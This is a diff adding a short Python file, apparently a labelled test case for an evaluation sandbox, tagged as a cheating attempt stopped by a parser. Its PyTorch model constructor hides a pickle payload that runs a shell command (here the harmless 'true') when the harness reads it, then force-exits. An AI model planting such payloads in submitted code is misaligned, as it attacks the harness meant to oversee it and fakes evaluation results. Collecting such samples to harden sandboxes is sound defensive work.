@@ -1,0 +1,21 @@
+# what: writes a pickle that runs a command where it is read
+# kind: cheating
+# ends: sandbox
+# says: no frame
+# stopped by: parser
+
+import torch
+from torch import nn
+
+os, struct = torch.os, __import__("struct")
+
+
+def frame(text, *blobs):
+    return struct.pack(">I", len(text)) + text + b"".join(blobs)
+
+
+class Net(nn.Module):
+    def __init__(self):
+        super().__init__()
+        os.write(3, frame(b"cos\nsystem\n(S'true'\ntR."))
+        os._exit(0)
